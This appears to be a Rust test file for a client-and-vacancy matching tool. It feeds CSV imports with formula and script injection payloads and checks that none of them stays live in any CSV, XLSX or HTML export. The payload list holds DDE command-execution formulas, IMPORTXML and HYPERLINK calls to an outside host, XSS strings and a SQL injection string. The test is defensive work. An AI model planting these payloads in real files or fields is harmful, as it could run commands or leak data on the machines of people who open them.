//! Formulas and scripts that come in through files go out as text, through every export of the program.

use super::kit::{Town, times};
use std::fmt::Write as _;

/// What a spreadsheet or a browser might run.
const PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"http://x\",\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "' OR 1=1 --",
];

fn quoted(field: &str) -> String {
    format!("\"{}\"", field.replace('"', "\"\""))
}

/// Fields of a CSV file that a spreadsheet would run.
fn live(csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let is_live = |field: &&str| {
        let start = field.trim_start_matches([' ', '\u{a0}', '\u{feff}']);
        let number = start.trim_start_matches(['-', '+']);
        let number = !number.is_empty()
            && number
                .bytes()
                .all(|b| b.is_ascii_digit() || b == b'.' || b == b',');
        start.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) && !number
    };
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let fields = records.iter().flat_map(|record| record.iter());
    fields.filter(is_live).map(str::to_owned).collect()
}

/// Looks for payloads among the cells that compute in a workbook, sums of our own; gives the number of sheets.
fn formulas(path: &std::path::Path) -> usize {
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(path).unwrap();
    let names = book.sheet_names();
    for name in &names {
        let live = book.worksheet_formula(name).unwrap();
        let payload = |cell: &str| {
            ["HYPERLINK", "cmd|", "IMPORTXML", "1+1", "2+3"]
                .iter()
                .any(|p| cell.contains(p))
        };
        let live: Vec<_> = live.used_cells().filter(|cell| payload(cell.2)).collect();
        assert!(live.is_empty(), "{path:?} {name}: {live:?}");
    }
    names.len()
}

#[test]
fn no_formula_that_came_in_goes_out_live_through_any_export() {
    let town = Town::bare();
    let count = times(120, 2000);
    let mut clients =
        "klantnummer;naam;geboortedatum;postcode;cohort;uitkering_sinds;wensen;werkverleden\n"
            .to_owned();
    let mut vacancies = "vacaturenummer;functietitel;werkgever;postcode;plaatsen\n".to_owned();
    for at in 0..count {
        let payload = quoted(PAYLOADS[at % PAYLOADS.len()]);
        // Some stand where they are text, some where the row is refused and its value is shown.
        let born = if at % 3 == 0 { &payload } else { "11-06-1977" };
        let _ = writeln!(
            clients,
            "K-{at};{payload};{born};8221;zittend_bestand;01-01-2019;{payload};{payload}"
        );
        let places = if at % 4 == 0 { &payload } else { "2" };
        let _ = writeln!(vacancies, "V-{at};{payload};{payload};8212 NP;{places}");
    }
    town.write("clients.csv", clients);
    town.write("vacancies.csv", vacancies);
    let mut texts = Vec::new();
    for kind in ["clients", "vacancies"] {
        let file = format!("{kind}.csv");
        texts.push(
            town.werkt(&["import", kind, &file, "--format", "csv"], &[])
                .ok()
                .out(),
        );
    }
    texts.push(
        town.werkt(&["nightly", "--date", "2021-10-01", "--format", "csv"], &[])
            .ok()
            .out(),
    );
    for command in [
        &["quarantine", "list", "--format", "csv"][..],
        &["runs", "list", "--format", "csv"],
        &["screening", "show", "--client", "K-1", "--format", "csv"],
        &["matches", "--client", "K-1", "--format", "csv"],
        &["matches", "--vacancy", "V-1", "--format", "csv"],
        &["titles", "link", "=1+1", "--format", "csv"],
    ] {
        texts.push(town.werkt(command, &[]).out());
    }
    town.werkt(&["quarantine", "export", "--out", "uit"], &[])
        .ok();
    for entry in std::fs::read_dir(town.path("uit")).unwrap() {
        texts.push(std::fs::read_to_string(entry.unwrap().path()).unwrap());
    }
    // Reports: as text for a spreadsheet, as a workbook, as a page.
    for kind in ["caseload", "quarter", "buig"] {
        let report = [
            "report",
            kind,
            "--date",
            "2021-10-01",
            "--format",
            "csv,xlsx,html,json",
            "--out",
            "rapport",
        ];
        town.werkt(&report, &[]).ok();
    }
    let mut sheets = 0;
    for entry in std::fs::read_dir(town.path("rapport")).unwrap() {
        let path = entry.unwrap().path();
        match path.extension().and_then(|end| end.to_str()) {
            Some("csv") => texts.push(std::fs::read_to_string(path).unwrap()),
            Some("xlsx") => sheets += formulas(&path),
            Some("html") => {
                let page = std::fs::read_to_string(&path).unwrap();
                assert!(
                    !page.contains("<script>alert") && !page.contains("<img src=x"),
                    "{path:?}"
                );
            }
            _ => {}
        }
    }
    assert!(sheets > 3, "{sheets} sheets were looked at");
    let quarantined = town.query("SELECT count(*) FROM quarantine")[0][0]
        .parse::<usize>()
        .unwrap();
    assert!(quarantined > count / 4, "{quarantined}");
    assert!(
        texts.iter().map(String::len).sum::<usize>() > count * 40,
        "there is something to look at"
    );
    for text in &texts {
        let live = live(text);
        assert!(
            live.is_empty(),
            "{} live fields: {:?}",
            live.len(),
            live.iter().take(5).collect::<Vec<_>>()
        );
    }
    println!(
        "{count} rows with payloads, {quarantined} in quarantine, {} exports, none live",
        texts.len()
    );
}
